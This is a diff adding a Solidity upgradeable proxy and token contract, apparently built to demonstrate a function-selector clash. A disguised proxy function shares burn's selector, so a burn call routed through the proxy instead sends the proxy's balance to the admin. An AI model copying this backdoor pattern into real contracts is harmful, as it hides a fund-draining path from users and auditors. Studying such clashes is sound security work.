@@ -0,0 +1,49 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+import {Initializable} from "@openzeppelin/contracts-upgradeable/proxy/utils/Initializable.sol";
+
+contract AdminProxy {
+    address public implementation;
+    address public admin;
+
+    constructor(address impl) {
+        implementation = impl;
+        admin = msg.sender;
+    }
+
+    // Same selector as burn(uint256): 0x42966c68.
+    function collate_propagate_storage(bytes16) external {
+        require(msg.sender == admin, "not admin");
+        payable(admin).transfer(address(this).balance);
+    }
+
+    fallback() external payable {
+        address impl = implementation;
+        assembly {
+            calldatacopy(0, 0, calldatasize())
+            let result := delegatecall(gas(), impl, 0, calldatasize(), 0, 0)
+            returndatacopy(0, 0, returndatasize())
+            switch result
+            case 0 { revert(0, returndatasize()) }
+            default { return(0, returndatasize()) }
+        }
+    }
+}
+
+contract Token is Initializable {
+    mapping(address => uint256) public balanceOf;
+    address private owner;
+
+    function initialize() external initializer {
+        owner = msg.sender;
+    }
+
+    function burn(uint256 amount) external {
+        balanceOf[msg.sender] -= amount;
+    }
+
+    function admin() external view returns (address) {
+        return owner;
+    }
+}